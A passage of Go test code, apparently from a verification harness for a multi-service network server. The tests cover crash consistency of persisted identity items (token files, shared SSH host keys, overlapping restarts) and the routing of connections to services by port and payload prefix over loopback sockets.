			mkSubset("smtp+ldap", runT{SMTP: true, LDAP: true}),
			mkSubset("ssh-simulator+ftp", runT{SSH: "ssh-simulator", FTP: true}),
		)
		reps = 3
	}
	maxAttempts := r.Pick(8, 12)
	shard, shards := r.Shard()
	failed := 0
	idx := 0
	for rep := 0; rep < reps; rep++ {
		for _, sub := range subsets {
			for n := 1; n <= sub.total; n++ {
				idx++
				if idx%shards != shard {
					continue
				}
				hit := false
				for attempt := 0; attempt < maxAttempts && !hit; attempt++ {
					killed := sub.run
					killed.KillRec = n
					after := sub.run
					after.Clients = 1 + (idx+attempt)%6
					c := histCase{TokenFile: "absent", Runs: []runT{killed, after, sub.run}}
					v := checkHistory(c)
					if v.Infra != "" {
						t.Fatalf("infra: %s", v.Infra)
					}
					kl, wasKilled := v.KillLeft[0]
					if wasKilled {
						r.Label(fmt.Sprintf("kill-state-hit:%s:n=%d", sub.name, len(kl.NewRecords)), 1)
						hit = len(kl.NewRecords) == n
					} else {
						r.Label(fmt.Sprintf("kill-state-not-reached:%s:n=%d", sub.name, n), 1)
					}
					account(r, "kill-at-records", c, v)
					if v.Violation != "" {
						rc := v.Used
						if wasKilled {
							rc = histCase{TokenFile: "absent", Snapshot: kl.Snapshot, Runs: c.Runs[1:],
								Origin: fmt.Sprintf("first start with services %s SIGKILLed when the store held the new records %v", sub.run.set(), kl.NewRecords)}
						}
						r.Violation(t, "TestKillStates", rc, v.Violation)
						if failed++; failed >= maxReports {
							t.Logf("stopping after %d violations", failed)
							return
						}
						break
					}
				}
				if !hit {
					r.Label(fmt.Sprintf("kill-state-missed:%s:n=%d", sub.name, n), 1)
					r.Note("kill after store write %d of subset %s was not hit exactly in %d attempts", n, sub.name, maxAttempts)
				}
			}
		}
	}
}

// TestTokenSiblingStates: crash states next to the token file. A writer that goes through a
// temporary file can be killed between creating it and the rename. (1) The temporary name
// the implementation uses is discovered by watching the data directory during a first
// start. (2) Starting children are killed the moment such a file appears; the directory is
// kept and restarted twice. (3) The states are also planted: the discovered name(s), empty /
// partial / complete, next to an absent / empty / partial token file.
func TestTokenSiblingStates(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var c histCase
	if vlib.ReplayCase("TestTokenSiblingStates", &c) {
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		if v.Violation != "" {
			r.Violation(t, "TestTokenSiblingStates", v.Used, v.Violation)
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	shard, shards := r.Shard()
	failed := 0
	report := func(rc histCase, msg string) bool {
		r.Violation(t, "TestTokenSiblingStates", rc, msg)
		failed++
		return failed >= maxReports
	}
	plain := runT{Agent: true, Kill: -1}

	// (1) discovery: an undisturbed first start, watched
	var discovered []string
	{
		base, err := os.MkdirTemp("", "c18-disc-")
		if err != nil {
			t.Fatalf("infra: %v", err)
		}
		res := runChild(filepath.Join(base, "data"), plain, killPlan{delay: -1, watch: true})
		os.RemoveAll(base)
		if res.Identity == nil {
			t.Fatalf("infra: discovery start did not come up: %s", describe(res))
		}
		seen := map[string]bool{}
		for _, n := range res.Siblings {
			if !seen[n] {
				seen[n] = true
				discovered = append(discovered, n)
			}
		}
	}
	if len(discovered) == 0 {
		r.Label("sibling-discovery:none", 1)
		r.Note("no file other than token appeared in the data directory during a first start; planting the conventional name token.tmp instead")
		discovered = []string{"token.tmp"}
	} else {
		r.Label("sibling-discovery:found", 1)
		if shard == 0 {
			r.Note("temporary file(s) seen next to the token during a first start: %v", discovered)
		}
	}
	if len(discovered) > 2 {
		discovered = discovered[:2]
	}

	// (2) real kills at the moment the temporary file appears
	attempts := r.Pick(3, 25)
	for a := 0; a < attempts; a++ {
		killed := plain
		killed.KillSibling = true
		c := histCase{TokenFile: "absent", DirExists: true, Runs: []runT{killed, plain, plain}}
		if a%2 == 1 { // a start that replaces a malformed token file writes one too
			c.TokenFile, c.Token = "content", sampleToken[:a%19+1]
		}
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		kl, wasKilled := v.KillLeft[0]
		switch {
		case !wasKilled:
			r.Label("sibling-kill:no-file-appeared", 1)
		case len(kl.Siblings) > 0:
			r.Label("sibling-kill:left-temporary-file", 1)
		default:
			r.Label("sibling-kill:rename-already-done", 1)
		}
		account(r, "kill-at-sibling", c, v)
		if v.Violation != "" {
			rc := v.Used
			if wasKilled {
				rc = histCase{TokenFile: "absent", Snapshot: kl.Snapshot, Runs: c.Runs[1:],
					Origin: fmt.Sprintf("start SIGKILLed when a new file appeared next to the token file; left files %v, token present=%v", kl.Siblings, kl.Token)}
			}
			if report(rc, v.Violation) {
				return
			}
			break
		}
	}

	// (3) planted states
	idx := 0
	for _, name := range discovered {
		for _, content := range []string{"", sampleToken[:7], sampleToken} {
			for _, tok := range []string{"absent", "", sampleToken[:9]} {
				idx++
				if idx%shards != shard {
					continue
				}
				c := histCase{TokenFile: "content", Token: tok, DirExists: true, Siblings: []sibT{{name, content}}}
				if tok == "absent" {
					c.TokenFile, c.Token = "absent", ""
				}
				a := cycle[idx%len(cycle)]
				a.Kill = -1
				c.Runs = []runT{a, a}
				if r.Thorough() {
					c.Runs = []runT{a, a, a}
				}
				v := checkHistory(c)
				if v.Infra != "" {
					t.Fatalf("infra: %s", v.Infra)
				}
				lbl := "empty"
				if len(content) == 20 {
					lbl = "complete"
				} else if content != "" {
					lbl = "partial"
				}
				r.Bulk("token-sibling-state/temp-"+lbl+"+token-"+c.tokenLabel(), 1, 1)
				r.Sample("token-sibling-state/temp-"+lbl, v.Used)
				for _, f := range v.Flaky {
					r.Flaky(f)
				}
				for _, l := range v.Labels {
					r.Label(l, 1)
				}
				if v.Violation != "" {
					if report(v.Used, v.Violation) {
						return
					}
				}
			}
		}
	}
	r.Exhaustive("planted temporary-file states next to the token file: the implementation's own temporary name (discovered by watching a first start) x {empty, 7-byte prefix, complete token} x token file {absent, empty, 9-byte prefix}")
}

// TestSharedItems: starts in which several service instances share one persisted identity
// item, enumerated at small scope: every unordered pair (with repetition) of the four ssh
// service types - they all present the one ssh host key -, two instances of ftp, of smtp, of
// ldap, and one start with everything at once. The first start on a fresh data directory has
// to generate the shared item exactly once; each history then restarts with the same set and
// (thorough tier) with each of the two instances alone and with both again. Every instance
// must present what was presented first.
func TestSharedItems(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var c histCase
	if vlib.ReplayCase("TestSharedItems", &c) {
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		if v.Violation != "" {
			r.Violation(t, "TestSharedItems", v.Used, v.Violation)
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	type pairT struct{ both, a, b runT }
	var pairs []pairT
	sshTypes := []string{"ssh-simulator", "ssh-auth", "ssh-proxy", "ssh-jail"}
	for i, a := range sshTypes {
		for _, b := range sshTypes[i:] {
			pairs = append(pairs, pairT{runT{SSH: a, More: []string{b}}, runT{SSH: a}, runT{SSH: b}})
		}
	}
	pairs = append(pairs,
		pairT{runT{FTP: true, More: []string{"ftp"}}, runT{FTP: true}, runT{More: []string{"ftp"}}},
		pairT{runT{SMTP: true, More: []string{"smtp"}}, runT{SMTP: true}, runT{More: []string{"smtp"}}},
		pairT{runT{LDAP: true, More: []string{"ldap"}}, runT{LDAP: true}, runT{More: []string{"ldap"}}},
	)
	everything := runT{SSH: "ssh-simulator", FTP: true, SMTP: true, LDAP: true, Agent: true, More: []string{"ssh-auth", "ftp", "ssh-proxy", "smtp", "ssh-jail", "ldap"}}
	pairs = append(pairs, pairT{everything, runT{SSH: "ssh-jail", FTP: true, LDAP: true, Agent: true}, runT{SSH: "ssh-auth", SMTP: true, More: []string{"ldap"}}})
	shard, shards := r.Shard()
	failed := 0
	for i, p := range pairs {
		if i%shards != shard {
			continue
		}
		p.both.Kill, p.a.Kill, p.b.Kill = -1, -1, -1
		first := p.both
		first.Clients = []int{1, 2, 3, 6}[(i+int(r.Seed/1000))%4] // also: several clients per sharing instance at once
		c := histCase{TokenFile: "absent", Runs: []runT{first, p.both}}
		if r.Thorough() {
			c.Runs = []runT{first, p.a, p.b, p.both}
		}
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		account(r, "shared-item/"+strings.Join(p.both.shared(), "+"), c, v)
		if v.Violation != "" {
			r.Violation(t, "TestSharedItems", v.Used, v.Violation)
			if failed++; failed >= maxReports {
				t.Logf("stopping after %d violations", failed)
				return
			}
		}
	}
	r.Exhaustive("pairs of service types sharing one identity item in a first start: all 10 unordered pairs (with repetition) of {ssh-simulator, ssh-auth, ssh-proxy, ssh-jail}, ftp+ftp, smtp+smtp, ldap+ldap, and all of them at once")
}

// TestConcurrentFirstClients: the observation schedule, enumerated at small scope. An
// identity item may be created when it is first USED rather than when the service is
// constructed; "the same as first generated" then has to hold for every client of that first
// use. For every identity-bearing service type alone (the four ssh types, ftp, smtp, ldap) and
// the agent listener, and for n = 2..6, the very first start on a fresh data directory is
// observed by n clients whose first uses of the identity overlap (all connected and taken to
// just before the TLS / SSH / Noise handshake, then released from one barrier); the next
// start is observed by two concurrent clients, a third one (thorough tier) by one. Every
// client of every run must be presented the same, well-formed item.
func TestConcurrentFirstClients(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var c histCase
	if vlib.ReplayCase("TestConcurrentFirstClients", &c) {
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		if v.Violation != "" {
			r.Violation(t, "TestConcurrentFirstClients", v.Used, v.Violation)
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	type oneT struct {
		name string
		run  runT
	}
	var types []oneT
	for _, st := range []string{"ssh-simulator", "ssh-auth", "ssh-proxy", "ssh-jail"} {
		types = append(types, oneT{st, runT{SSH: st}})
	}
	types = append(types,
		oneT{"ftp", runT{FTP: true}},
		oneT{"smtp", runT{SMTP: true}},
		oneT{"ldap", runT{LDAP: true}},
		oneT{"agent", runT{Agent: true}},
	)
	counts := []int{2, 3, 4, 5, 6}
	shard, shards := r.Shard()
	failed := 0
	idx := 0
	for _, n := range counts {
		for _, ty := range types {
			idx++
			if idx%shards != shard {
				continue
			}
			first, second, third := ty.run, ty.run, ty.run
			first.Kill, second.Kill, third.Kill = -1, -1, -1
			first.Clients, second.Clients = n, 2
			c := histCase{TokenFile: "absent", Runs: []runT{first, second}}
			if r.Thorough() {
				c.Runs = append(c.Runs, third)
			}
			v := checkHistory(c)
			if v.Infra != "" {
				t.Fatalf("infra: %s", v.Infra)
			}
			account(r, fmt.Sprintf("concurrent-first-clients/%s", ty.name), c, v)
			if v.Violation != "" {
				r.Violation(t, "TestConcurrentFirstClients", v.Used, v.Violation)
				if failed++; failed >= maxReports {
					t.Logf("stopping after %d violations", failed)
					return
				}
			}
		}
	}
	r.Exhaustive("observation schedules of a first start with one identity-bearing service: {ssh-simulator, ssh-auth, ssh-proxy, ssh-jail, ftp, smtp, ldap, agent listener} x {2, 3, 4, 5, 6} concurrent first clients")
}

// unionRun: a start that enables what a and b enable.
func unionRun(a, b runT) runT {
	u := runT{SSH: a.SSH, FTP: a.FTP || b.FTP, SMTP: a.SMTP || b.SMTP, LDAP: a.LDAP || b.LDAP, Agent: a.Agent || b.Agent, Kill: -1}
	if u.SSH == "" {
		u.SSH = b.SSH
	}
	return u
}

// TestOverlappingRestarts: the restart schedule, enumerated at small scope. In every other
// enumerator a run has ended before the next one is started. Here the process of a completed
// run K is kept alive - server running, store open - while the next one or two runs are
// started on the same data directory (the new instance is started before the old one has
// gone), then K is told to exit or is SIGKILLed, and a sequential run that enables everything
// seen so far follows. K is the very first start on the data directory or a restart; the
// overlapping starts enable the same services as K, other ones, or all. An overlapping start
// may refuse to come up; if it comes up, every item it presents must be the one first
// generated on the data directory, and the sequential run afterwards must present it too.
func TestOverlappingRestarts(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(ruleText)
	var c histCase
	if vlib.ReplayCase("TestOverlappingRestarts", &c) {
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		if v.Violation != "" {
			r.Violation(t, "TestOverlappingRestarts", v.Used, v.Violation)
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	all := runT{SSH: "ssh-simulator", FTP: true, SMTP: true, LDAP: true, Agent: true}
	sets := append(append([]runT(nil), cycle...), all)
	var cases []histCase
	add := func(si int, first bool, end string, window int, other int) {
		k := sets[si%len(sets)]
		k.Kill = -1
		var runs []runT
		if !first {
			runs = append(runs, k)
		}
		held := k
		held.Overlap, held.End = window, end
		runs = append(runs, held)
		last := k
		for w := 0; w < window; w++ {
			o := k
			switch (other + w) % 3 {
			case 1:
				o = sets[(si+1+w)%len(sets)]
			case 2:
				o = all
			}
			o.Kill = -1
			o.Clients = []int{0, 2}[(si+w)%2]
			runs = append(runs, o)
			last = unionRun(last, o)
		}
		runs = append(runs, last)
		cases = append(cases, histCase{TokenFile: "absent", Runs: runs})
	}
	if r.Thorough() {
		for si := range sets {
			for _, first := range []bool{true, false} {
				for _, end := range []string{"exit", "kill"} {
					for window := 1; window <= 2; window++ {
						for other := 0; other < 3; other++ {
							add(si, first, end, window, other)
						}
					}
				}
			}
		}
	} else {
		// the same dimensions, rotated against each other (the seed turns the rotation)
		rot := int(r.Seed / 1000)
		for j := 0; j < 16; j++ {
			add(j+rot, j&1 == 0, []string{"exit", "kill"}[(j>>1)&1], 1+(j>>2)&1, j+j>>3+rot)
		}
	}
	shard, shards := r.Shard()
	failed := 0
	for i, c := range cases {
		if i%shards != shard {
			continue
		}
		v := checkHistory(c)
		if v.Infra != "" {
			t.Fatalf("infra: %s", v.Infra)
		}
		account(r, "overlapping-restart", c, v)
		if v.Violation != "" {
			r.Violation(t, "TestOverlappingRestarts", v.Used, v.Violation)
			if failed++; failed >= maxReports {
				t.Logf("stopping after %d violations", failed)
				return
			}
		}
	}
	if r.Thorough() {
		r.Exhaustive("overlapping restart schedules at small scope: 8 service sets x kept-alive run is the first start / a restart x ended by exit / SIGKILL x 1..2 overlapping starts x overlapping starts enable the same / other / all services")
	}
}
