package c08

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

const prop = "C08"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

type svc struct {
	Kind   string `json:"kind"` // plain | detect
	Prefix string `json:"prefix,omitempty"`
}

type selCase struct {
	Proto    string `json:"proto"`    // tcp | udp
	Specific bool   `json:"specific"` // port entry carries an address
	Services []svc  `json:"services"`
	Decoys   int    `json:"decoys"` // further port entries (other port / other protocol / other address)
	Payload  string `json:"payload_hex"`
	Cuts     []int  `json:"cuts"`            // chunk boundaries (tcp)
	Wrong    string `json:"wrong,omitempty"` // "", "port", "proto", "addr": probe something that matches no entry
	Socket   bool   `json:"socket"`
}

func (c selCase) chunks() [][]byte {
	p := vlib.UnHex(c.Payload)
	var out [][]byte
	last := 0
	for _, cut := range c.Cuts {
		if cut > last && cut < len(p) {
			out = append(out, p[last:cut])
			last = cut
		}
	}
	if last < len(p) {
		out = append(out, p[last:])
	}
	return out
}

const targetPort = 7000

func (c selCase) toml(id string, listenerType string, base int) string {
	var b strings.Builder
	if listenerType == "verif-mem" {
		fmt.Fprintf(&b, "[listener]\ntype=\"verif-mem\"\nid=%q\n\n", id)
	} else {
		fmt.Fprintf(&b, "[listener]\ntype=\"socket\"\n\n")
	}
	var names []string
	for i, s := range c.Services {
		n := fmt.Sprintf("t%d", i)
		names = append(names, fmt.Sprintf("%q", n))
		fmt.Fprintf(&b, "[service.%s]\ntype=\"verif-%s\"\nid=%q\nprefix=%q\n\n", n, s.Kind, id+"-"+n, s.Prefix)
	}
	for i := 0; i < c.Decoys; i++ {
		fmt.Fprintf(&b, "[service.d%d]\ntype=\"verif-plain\"\nid=%q\n\n", i, fmt.Sprintf("%s-d%d", id, i))
	}
	host := ""
	if c.Specific || listenerType == "socket" {
		host = "127.0.0.1:"
	}
	fmt.Fprintf(&b, "[[port]]\nport=\"%s/%s%d\"\nservices=[%s]\n\n", c.Proto, host, base, strings.Join(names, ", "))
	other := "udp"
	if c.Proto == "udp" {
		other = "tcp"
	}
	for i := 0; i < c.Decoys; i++ {
		switch i {
		case 0: // same port number, other protocol
			fmt.Fprintf(&b, "[[port]]\nport=\"%s/%s%d\"\nservices=[\"d0\"]\n\n", other, host, base)
		case 1: // neighbouring port, same protocol
			fmt.Fprintf(&b, "[[port]]\nport=\"%s/%s%d\"\nservices=[\"d1\"]\n\n", c.Proto, host, base+1)
		}
	}
	return b.String()
}

// decide applies the statement's selection rule to one view (prefix) of the payload.
// returns index of the chosen service, or -1.
func decide(services []svc, view []byte) int {
	if len(services) == 0 {
		return -1
	}
	if len(services) == 1 {
		return 0
	}
	for i, s := range services {
		if s.Kind == "plain" {
			return i
		}
		if bytes.HasPrefix(view, []byte(s.Prefix)) {
			return i
		}
	}
	return -1
}

// acceptable returns the set of services that the statement allows: the decision on the
// first delivered chunk (at most 1024 bytes), or - since the statement does not fix how
// many of "the first bytes" are inspected when the client dribbles - on any longer
// prefix of the stream up to 1024 bytes.
func acceptable(c selCase, firstLen int) map[int]bool {
	p := vlib.UnHex(c.Payload)
	out := map[int]bool{}
	max := len(p)
	if max > 1024 {
		max = 1024
	}
	if firstLen > max {
		firstLen = max
	}
	for n := firstLen; n <= max; n++ {
		out[decide(c.Services, p[:n])] = true
	}
	return out
}

func checkSelect(c selCase) error {
	id := lab.NextID()
	payload := vlib.UnHex(c.Payload)
	chunks := c.chunks()
	base := targetPort
	ltype := "verif-mem"
	if c.Socket {
		ltype = "socket"
		var err error
		base, err = freePort(c.Proto)
		if err != nil {
			return fmt.Errorf("infra: %v", err)
		}
	}
	var srv *lab.Server
	var err error
	if c.Socket {
		srv, err = lab.StartSocket(id, c.toml(id, ltype, base))
	} else {
		srv, err = lab.Start(id, c.toml(id, ltype, base), false)
	}
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	ids := []string{id}
	for i := range c.Services {
		ids = append(ids, fmt.Sprintf("%s-t%d", id, i))
	}
	for i := 0; i < c.Decoys; i++ {
		ids = append(ids, fmt.Sprintf("%s-d%d", id, i))
	}
	defer lab.Forget(ids...)

	localIP := net.IPv4(127, 0, 0, 1)
	port := base
	proto := c.Proto
	switch c.Wrong {
	case "port":
		port = base + 2
	case "proto":
		if c.Decoys >= 1 {
			// decoy 0 listens there; make the probe miss it too
			port = base + 2
		}
		if proto == "tcp" {
			proto = "udp"
		} else {
			proto = "tcp"
		}
	case "addr":
		localIP = net.IPv4(127, 0, 0, 9)
	}
	expectNone := c.Wrong == "port" || c.Wrong == "proto" || (c.Wrong == "addr" && c.Specific) || len(c.Services) == 0
	firstLen := len(payload)
	closed := true
	if c.Socket {
		// real loopback sockets
		addr := fmt.Sprintf("127.0.0.1:%d", port)
		if proto == "tcp" {
			conn, err := net.DialTimeout("tcp", addr, 3*time.Second)
			if err != nil {
				if expectNone {
					return nil // nothing listens there: refused, nobody can see it
				}
				return fmt.Errorf("infra: dial %s: %v", addr, err)
			}
			if tc, ok := conn.(*net.TCPConn); ok {
				tc.SetNoDelay(true)
			}
			for i, ch := range chunks {
				if i == 1 {
					time.Sleep(40 * time.Millisecond)
				}
				conn.Write(ch)
			}
			if len(chunks) > 0 {
				firstLen = len(chunks[0])
			}
			conn.(*net.TCPConn).CloseWrite()
			conn.SetReadDeadline(time.Now().Add(45 * time.Second))
			buf := make([]byte, 64)
			_, rerr := conn.Read(buf)
			closed = rerr != nil && !isTimeout(rerr)
			conn.Close()
		} else {
			conn, err := net.Dial("udp", addr)
			if err != nil {
				return fmt.Errorf("infra: %v", err)
			}
			conn.Write(payload)
			conn.Close()
			time.Sleep(30 * time.Millisecond)
		}
	} else if proto == "tcp" {
		conn := srv.L.DialTCP(&net.TCPAddr{IP: localIP, Port: port}, &net.TCPAddr{IP: net.IPv4(203, 0, 113, 5), Port: 40123})
		for _, ch := range chunks {
			conn.Send(ch)
		}
		if len(chunks) > 0 {
			firstLen = len(chunks[0])
		}
		conn.CloseWrite()
		closed = conn.WaitClosed(45 * time.Second)
	} else {
		srv.L.SendUDP(&net.UDPAddr{IP: localIP, Port: port}, &net.UDPAddr{IP: net.IPv4(203, 0, 113, 5), Port: 40123}, payload)
	}
	if !closed {
		return fmt.Errorf("server did not close the connection within 45s of the client's EOF")
	}
	allowed := acceptable(c, firstLen)
	if expectNone {
		allowed = map[int]bool{-1: true}
	}
	// collect invocations; datagrams have no close signal, so poll briefly for the expected one
	deadline := time.Now().Add(3 * time.Second)
	for {
		chosen := -1
		var data []byte
		count := 0
		for i := range c.Services {
			st := lab.GetStub(fmt.Sprintf("%s-t%d", id, i))
			if st == nil {
				return fmt.Errorf("infra: stub t%d missing", i)
			}
			for _, inv := range st.Invocations() {
				count++
				chosen = i
				if !inv.Done {
					chosen = -2
				}
				data = inv.Data
			}
		}
		for i := 0; i < c.Decoys; i++ {
			st := lab.GetStub(fmt.Sprintf("%s-d%d", id, i))
			if st != nil && len(st.Invocations()) > 0 {
				return fmt.Errorf("a service configured only for another port entry (decoy %d) was handed the connection", i)
			}
		}
		if count > 1 {
			return fmt.Errorf("the connection was handed to %d services", count)
		}
		if chosen == -2 || (chosen == -1 && !allowed[-1] && time.Now().Before(deadline)) {
			if time.Now().After(deadline.Add(7 * time.Second)) {
				return fmt.Errorf("chosen service never finished reading")
			}
			time.Sleep(time.Millisecond)
			continue
		}
		if !allowed[chosen] {
			return fmt.Errorf("connection was handed to service %d (-1 = none); the selection rule allows %v for services=%s first-chunk=%d payload=%q", chosen, keys(allowed), vlib.JSON(c.Services), firstLen, trunc(payload))
		}
		if chosen >= 0 && !bytes.Equal(data, payload) {
			return fmt.Errorf("service %d read %d bytes %q, client sent %d bytes %q (stream not intact)", chosen, len(data), trunc(data), len(payload), trunc(payload))
		}
		return nil
	}
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}

func keys(m map[int]bool) []int {
	var o []int
	for k := range m {
		o = append(o, k)
	}
	return o
}

func trunc(b []byte) string {
	if len(b) > 48 {
		return string(b[:48]) + "..."
	}
	return string(b)
}

var nextPort, socketCases int

var portLocks []net.Listener // held until the process ends

// freePort hands out port triples from a range that belongs to this shard alone (other
// shards and other checks run at the same time and must not pick the same numbers), below
// the kernel's ephemeral range. Another run of this check on the same machine (a second
// tier, a second copy) has the same ranges: a triple is therefore also claimed with an
// abstract unix socket named after it (exclusive per network namespace like the ports
// themselves, no file, released by the kernel when the process ends).
func freePort(proto string) (int, error) {
	shard, _ := strconv.Atoi(os.Getenv("VERIF_SHARD"))
	lo := 10000 + (shard%16)*2400
	if nextPort == 0 {
		nextPort = os.Getpid() % 790
	}
	for i := 0; i < 790 && len(myTriples) < 700; i++ {
		p := lo + (nextPort*3)%2370
		nextPort++
		lf, err := net.Listen("unix", fmt.Sprintf("@verif-c08-port-%d", p))
		if err != nil {
			continue // claimed by another process
		}
		ok := true
		for d := 0; d < 3 && ok; d++ {
			if t, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", p+d)); err != nil {
				ok = false
			} else {
				t.Close()
			}
			if u, err := net.ListenPacket("udp", fmt.Sprintf("127.0.0.1:%d", p+d)); err != nil {
				ok = false
			} else {
				u.Close()
			}
		}
		if ok {
			portLocks = append(portLocks, lf)
			myTriples = append(myTriples, p)
			return p, nil
		}
		lf.Close()
	}
	// every triple of the range is claimed (by this process earlier on, or by another run):
	// use one of this process's own claims again - its earlier server has been stopped
	for i := 0; i < len(myTriples); i++ {
		p := myTriples[(reuse+i)%len(myTriples)]
		ok := true
		for d := 0; d < 3 && ok; d++ {
			if t, err := net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", p+d)); err != nil {
				ok = false
			} else {
				t.Close()
			}
			if u, err := net.ListenPacket("udp", fmt.Sprintf("127.0.0.1:%d", p+d)); err != nil {
				ok = false
			} else {
				u.Close()
			}
		}
		if ok {
			reuse = (reuse + i + 1) % len(myTriples)
			return p, nil
		}
	}
	return 0, fmt.Errorf("no free port triple in this shard's range")
}

var (
	myTriples []int
	reuse     int
)

var prefixes = []string{"A", "AB", "B", "GET ", "", "ABC"}
var heads = []string{"ABCDEF", "AB", "A", "Bxx", "GET / HTTP/1.0\r\n\r\n", "zzz", "", "ABC", "\x00\x01"}

func genCase(t *rapid.T, socket bool) selCase {
	c := selCase{Socket: socket}
	c.Proto = rapid.SampledFrom([]string{"tcp", "tcp", "tcp", "udp"}).Draw(t, "proto")
	c.Specific = rapid.Bool().Draw(t, "specific")
	n := rapid.IntRange(0, 4).Draw(t, "nsvc")
	for i := 0; i < n; i++ {
		if rapid.IntRange(0, 2).Draw(t, "kind") == 0 {
			c.Services = append(c.Services, svc{Kind: "plain"})
		} else {
			c.Services = append(c.Services, svc{Kind: "detect", Prefix: rapid.SampledFrom(prefixes).Draw(t, "prefix")})
		}
	}
	c.Decoys = rapid.IntRange(0, 2).Draw(t, "decoys")
	head := rapid.SampledFrom(heads).Draw(t, "head")
	tailLen := rapid.SampledFrom([]int{0, 0, 1, 7, 100, 1018, 1019, 1024, 1500, 4000}).Draw(t, "tail")
	tail := make([]byte, tailLen)
	for i := range tail {
		tail[i] = byte('a' + i%23)
	}
	p := append([]byte(head), tail...)
	if len(p) == 0 && c.Proto == "tcp" {
		p = []byte("Q")
	}
	c.Payload = vlib.Hex(p)
	if c.Proto == "tcp" {
		switch rapid.IntRange(0, 3).Draw(t, "cutkind") {
		case 0:
		case 1:
			c.Cuts = []int{rapid.IntRange(1, max(1, min(len(p), 8))).Draw(t, "cut")}
		case 2:
			c.Cuts = []int{1, 2, 3}
		default:
			k := rapid.IntRange(1, 4).Draw(t, "ncuts")
			last := 0
			for i := 0; i < k; i++ {
				last += rapid.IntRange(1, 1100).Draw(t, "gap")
				c.Cuts = append(c.Cuts, last)
			}
		}
	}
	c.Wrong = rapid.SampledFrom([]string{"", "", "", "", "port", "proto", "addr"}).Draw(t, "wrong")
	if socket && c.Wrong == "addr" {
		c.Wrong = "" // loopback sockets: the probe always goes to the configured address
	}
	return c
}

func nontrivial(c selCase) bool {
	if len(c.Services) < 2 || c.Wrong != "" {
		return false
	}
	return c.Services[0].Kind == "detect"
}

func run(t *testing.T, name string, socket bool, checks int) {
	r := vlib.Open(prop)
	var sc selCase
	if vlib.ReplayCase(name, &sc) {
		if err := checkSelect(sc); err != nil {
			r.Violation(t, name, sc, err.Error())
		}
		return
	}
	r.Rapid(t, name, checks, func(rt *rapid.T) {
		c := genCase(rt, socket)
		if r.IsKnown("C08-peeked-bytes-lost") && losesPeek(c) {
			r.Excluded("C08-peeked-bytes-lost")
			rt.Skip("known finding excluded by construction")
		}
		fp := ""
		if nontrivial(c) {
			fp = vlib.JSON(c)
		}
		tr := "mem"
		if socket {
			tr = "socket"
		}
		r.Case(fmt.Sprintf("select/%s/%s/services=%d", tr, c.Proto, len(c.Services)), fp, func() interface{} { return c })
		if err := checkSelect(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, name, c, "%v", err)
		}
	})
}

// losesPeek: shape of the known finding (a detector-bearing service rejects, then a
// detector-less service is chosen).
func losesPeek(c selCase) bool {
	if len(c.Services) < 2 || c.Services[0].Kind != "detect" {
		return false
	}
	p := vlib.UnHex(c.Payload)
	for _, s := range c.Services {
		if s.Kind == "plain" {
			return true
		}
		if bytes.HasPrefix(p, []byte(s.Prefix)) && len(s.Prefix) <= 1 {
			return false
		}
	}
	return false
}

func TestSelectMem(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule("port tables of 1..3 entries (target + decoys on other protocol / neighbouring port), tcp/udp, wildcard or specific address, service lists of 0..4 stubs (detector-less or prefix-detector) x first payloads matching none/one/several detectors x segmentations (single write, early cut, 1-byte dribble, cuts around 1024) x probes that match no entry; oracle = reference selection rule + chosen stub read exactly the client's bytes, all others nothing; non-trivial = >=2 candidate services with a detector consulted first")
	run(t, "TestSelectMem", false, r.Pick(8000, 80000))
}

func TestSelectSocket(t *testing.T) {
	r := vlib.Open(prop)
	run(t, "TestSelectSocket", true, r.Pick(25, 150))
}

// ---------------------------------------------------------------- several connections at once

// Overlapping connections on one detector-bearing port: each chosen service must read
// exactly its own client's stream, also when services start reading late and the first
// bytes of another connection are being inspected in the meantime.
type concCase struct {
	Services []svc    `json:"services"`
	Payloads []string `json:"payloads_hex"` // one per connection
	DelayMs  int      `json:"read_delay_ms"`
	Socket   bool     `json:"socket"`
	UDP      bool     `json:"udp"`
}

func checkConcurrent(c concCase) error {
	id := lab.NextID()
	var b strings.Builder
	base := targetPort
	proto := "tcp"
	if c.UDP {
		proto = "udp"
	}
	if c.Socket {
		var err error
		base, err = freePort(proto)
		if err != nil {
			return fmt.Errorf("infra: %v", err)
		}
		fmt.Fprintf(&b, "[listener]\ntype=\"socket\"\n\n")
	} else {
		fmt.Fprintf(&b, "[listener]\ntype=\"verif-mem\"\nid=%q\n\n", id)
	}
	var names []string
	for i, s := range c.Services {
		n := fmt.Sprintf("t%d", i)
		names = append(names, fmt.Sprintf("%q", n))
		fmt.Fprintf(&b, "[service.%s]\ntype=\"verif-%s\"\nid=%q\nprefix=%q\nread_delay_ms=%d\n\n", n, s.Kind, id+"-"+n, s.Prefix, c.DelayMs)
	}
	fmt.Fprintf(&b, "[[port]]\nport=\"%s/127.0.0.1:%d\"\nservices=[%s]\n\n", proto, base, strings.Join(names, ", "))
	var srv *lab.Server
	var err error
